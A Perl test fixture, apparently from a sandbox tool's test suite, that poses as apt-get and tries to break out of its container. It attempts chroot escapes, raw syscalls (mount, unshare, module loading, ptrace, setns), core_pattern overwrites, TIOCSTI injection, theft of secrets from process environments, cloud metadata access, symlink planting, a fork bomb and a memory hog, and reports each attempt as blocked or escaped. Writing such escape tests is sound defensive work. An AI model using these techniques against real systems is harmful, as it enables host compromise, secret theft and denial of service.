#!/usr/bin/perl
# A hostile `apt-get`, placed at /usr/local/sbin/apt-get (ahead of the real one on the steps'
# PATH) by tests/sandbox_escape.rs. It tries to reach the host every way it knows, prints one
# line per attempt ("blocked: WHAT (why)" or "ESCAPED: WHAT"), leaves a daemon behind and fails,
# so salve prints the end of its output. The test fills in the @...@ values: the host's paths,
# secrets and listener it must never reach. Syscall numbers are x86_64's.
use strict;
use warnings;
use IO::Socket::INET;
use POSIX ();

$| = 1;
my ($escaped, $blocked) = (0, 0);
my @blocked;
my $marker = '@MARKER@';
my $secret_file = '@SECRET_FILE@';
my $secret = '@SECRET@';
my $env_secret = '@ENV_SECRET@';
my $port = '@PORT@';
my $victim = '@VICTIM@';
# @RUN@ names this run's daemon, so that parallel runs do not see each other's.

sub outcome {
    my ($what, $reached, $why) = @_;
    if ($reached) { print "ESCAPED: $what\n"; $escaped++; }
    else { print "blocked: $what (" . ($why // $!) . ")\n"; $blocked++; push @blocked, $what; }
}

# True when a host file can be read (and holds the secret) or the host's marker folder written.
sub host_reached {
    my ($prefix) = @_;
    my $found = 0;
    if (open(my $in, '<', "$prefix$secret_file")) { local $/; my $text = <$in> // ''; $found = 1 if index($text, $secret) >= 0; }
    if (open(my $out, '>', "$prefix$marker/escaped")) { print $out "escaped\n"; close $out; $found = 1; }
    return $found;
}

# chroot escape: a chroot below the current folder, then `..` past it and chroot(".").
{
    mkdir '/tmp/jail';
    my $reached = 0;
    if (opendir(my $here, '/') && chroot('/tmp/jail')) {
        chdir('..') for 1 .. 64;
        chroot('.');
        $reached = host_reached('');
    }
    outcome('chroot escape', $reached, 'the root is the image after pivot_root');
}

# The root of pid 1 and of every other visible process.
for my $pid (grep { /^\d+$/ } map { s{.*/}{}r } glob('/proc/*')) {
    outcome("/proc/$pid/root", host_reached("/proc/$pid/root"), 'only the image is reachable');
}

# Overwriting pid 1's program (salve's own binary on the host).
my $exe;
outcome('writing /proc/1/exe', open($exe, '>>', '/proc/1/exe'));

# A system call with copies of its arguments (the kernel may write into strings, so they must
# not be Perl constants).
sub sys {
    my @arguments = map { my $copy = $_; $copy } @_;
    return syscall($arguments[0], @arguments[1 .. $#arguments]);
}

# Mounting, namespaces, modules, keys and the like, straight through the system calls.
my %calls = (
    'mount tmpfs' => sub { sys(165, 'none', '/mnt', 'tmpfs', 0, 0) == 0 },
    'mount proc' => sub { sys(165, 'proc', '/mnt', 'proc', 0, 0) == 0 },
    'unshare user' => sub { sys(272, 0x10000000) == 0 },
    'unshare mount' => sub { sys(272, 0x00020000) == 0 },
    'unshare net' => sub { sys(272, 0x40000000) == 0 },
    'init_module' => sub { sys(175, "\0" x 64, 64, '') == 0 },
    'finit_module' => sub { open(my $f, '<', '/bin/sh') or return 0; sys(313, fileno($f), '', 0) == 0 },
    'kexec_load' => sub { sys(246, 0, 0, 0, 0) == 0 },
    'keyctl' => sub { sys(250, 0, -3, 0, 0, 0) >= 0 },
    'bpf' => sub { sys(321, 0, 0, 0) >= 0 },
    'perf_event_open' => sub { sys(298, "\0" x 128, 0, -1, -1, 0) >= 0 },
    'open_by_handle_at' => sub { sys(304, -100, "\0" x 16, 0) >= 0 },
    'mknod of the host disk' => sub { my ($d, $b); sys(133, '/tmp/disk', 0060600, (254 << 8) | 0) == 0 && open($d, '<', '/tmp/disk') && sysread($d, $b, 512) },
    'ptrace of a host process' => sub { sys(101, 16, $victim + 0, 0, 0) == 0 },
    'kill of a host process' => sub { kill(0, $victim + 0) && -e "/proc/$victim/cmdline" && `cat /proc/$victim/cmdline` =~ /salve-victim/ },
);
for my $name (sort keys %calls) {
    outcome($name, $calls{$name}->());
}

# Joining every namespace reachable under /proc.
my %namespaces = map { $_ => 1 } glob('/proc/*/ns/*'), map { "/proc/1/ns/$_" } qw(cgroup ipc mnt net pid user uts);
for my $ns (sort keys %namespaces) {
    my $fd;
    my $joined = open($fd, '<', $ns) && sys(308, fileno($fd), 0) == 0;
    outcome("setns $ns", $joined);
}

# Writable kernel settings.
for my $file ('/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/proc/sys/kernel/modprobe') {
    my $out;
    my $written = open($out, '>', $file) && print($out "|/tmp/pwn\n") && close($out);
    outcome("writing $file", $written);
}

# Typing into a terminal: the standard descriptors and every terminal device.
for my $path ('/dev/tty', '/dev/console', glob('/dev/pts/*'), glob('/dev/tty*')) {
    my $tty;
    my $char = 'x';
    my $typed = open($tty, '+<', $path) && ioctl($tty, 0x5412, $char);
    outcome("TIOCSTI on $path", $typed);
}
for my $fd (0, 1, 2) {
    open(my $handle, '+<&=', $fd) or next;
    my $char = 'x';
    outcome("TIOCSTI on fd $fd", ioctl($handle, 0x5412, $char));
}

# Block devices in /dev.
my @block = grep { -b $_ } glob('/dev/*');
outcome('a block device in /dev', scalar(@block), 'none there');

# Every process's environment (salve's holds a secret).
{
    my $found = 0;
    for my $environ (glob('/proc/*/environ')) {
        open(my $in, '<', $environ) or next;
        local $/;
        my $text = <$in> // '';
        $found = 1 if index($text, $env_secret) >= 0;
    }
    outcome('salve\'s environment', $found, 'not visible');
}

# A service on the host's loopback, directly and through the user-mode network's gateway.
for my $address ("127.0.0.1:$port", "10.0.2.2:$port") {
    my $socket = IO::Socket::INET->new(PeerAddr => $address, Timeout => 3);
    outcome("connecting to $address", defined $socket, $@ || $!);
}

# A cloud's metadata endpoint, on a link-local address.
{
    my $socket = IO::Socket::INET->new(PeerAddr => '169.254.169.254:80', Timeout => 3);
    my $why = $@ || $!;
    outcome('connecting to 169.254.169.254:80', defined $socket || $why !~ /unreachable|no route/i, $why);
}

# Links planted in the results folder, where salve once kept the step logs.
mkdir '/salve-results/.salve';
for my $name ('/salve-results/.salve/step-0.log', '/salve-results/step-0.log', '/salve-results/.salve/database') {
    unlink $name;
    symlink($secret_file, $name);
}

# A fork bomb (bounded by --step-processes) and a memory hog (bounded by --step-memory).
{
    my @children;
    while (1) {
        my $pid = fork();
        last unless defined $pid;
        if ($pid == 0) { sleep 600; exit 0; }
        push @children, $pid;
        last if @children >= 100000;
    }
    outcome('fork bomb', @children >= 100000, 'stopped after ' . scalar(@children) . ' processes');
    kill 'KILL', @children;
    waitpid($_, 0) for @children;
}
{
    my $pid = fork();
    if ($pid == 0) { my $size = 4 * 1024 * 1024 * 1024 + (time() & 0); my $hog = 'x' x $size; exit 0; }
    waitpid($pid, 0);
    outcome('memory hog', $? == 0, "the allocation failed: status $?");
}

# A daemon left behind.
if (fork() == 0) {
    POSIX::setsid();
    $0 = 'salve-hostile-daemon-@RUN@';
    sleep 600;
    exit 0;
}

print 'hostile blocked: ' . join('; ', @blocked) . "\n";
print "hostile summary: $escaped escaped, $blocked blocked\n";
exit 1;
